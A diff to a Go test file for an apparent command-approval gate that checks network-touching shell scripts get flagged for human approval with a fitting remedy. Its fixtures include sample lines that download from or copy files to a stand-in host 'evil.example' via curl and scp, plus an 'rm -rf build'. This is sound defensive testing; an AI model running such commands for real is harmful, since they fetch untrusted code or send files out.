@@ -97,6 +97,22 @@ func TestRemediesOfTheNetwork(t *testing.T) {
 			}
 		}
 	}
+	for script, alone := range map[string]string{ // the entry is for what connects, in a call of its own
+		"mkdir -p x && curl -o x/f https://evil.example/f":                 "curl -o x/f https://evil.example/f",
+		"rsync -a . me@there.example:/srv && curl https://evil.example":    "curl https://evil.example",
+		"curl -s https://evil.example/x | jq .":                            "curl -s https://evil.example/x | jq .",
+		"for f in a b; do scp $f me@evil.example:/srv; done; rm -rf build": "scp a me@evil.example:/srv",
+	} {
+		m := matchOf(judged(t, approvedFor(t, "{tool: go-test, mode: loopback}"), script), "runtime.network_requires_approval")
+		if m == nil || !strings.Contains(m.Remedy, "; give what connects in a call of its own, for which a person writes {tool: ") {
+			t.Errorf("%s: %+v", script, m)
+			continue
+		}
+		entry := entryForm.FindString(m.Remedy)
+		if again := judged(t, approvedFor(t, entry), alone); again.Verdict != record.VerdictAllow {
+			t.Errorf("%s\n the remedy %s: %s, %+v", alone, entry, again.Verdict, again.Matches)
+		}
+	}
 	for _, script := range []string{"curl -d @f https://registry.npmjs.org/x", "curl -s https://registry.npmjs.org/x | jq .", "curl http://localhost:8080/", "go test ./...", "git fetch origin"} {
 		if d := judged(t, approvedFor(t, listed), script); d.Verdict != record.VerdictAllow {
 			t.Errorf("%s: %s, %+v", script, d.Verdict, d.Matches)
@@ -186,7 +202,7 @@ func TestRemediesBesideFlags(t *testing.T) {
 	}
 	for _, unknown := range []string{"frobnicate https://x.example", "frobnicate", `curl "$URL"`} { // of which the catalog or the command says nothing
 		m = matchOf(decide(bare, unknown), "runtime.network_requires_approval")
-		if m == nil || regexp.MustCompile(`(adds|writes|approves) *,| ,|\{\}|\[\]`).MatchString(m.Remedy) || !strings.Contains(m.Remedy, "; a person writes {tool: ") {
+		if m == nil || regexp.MustCompile(`(adds|writes|approves) *,| ,|\{\}|\[\]`).MatchString(m.Remedy) || !strings.Contains(m.Remedy, "; a person lets the call pass once with `ethos-decide approve`") {
 			t.Errorf("%s: %+v", unknown, m)
 		}
 	}
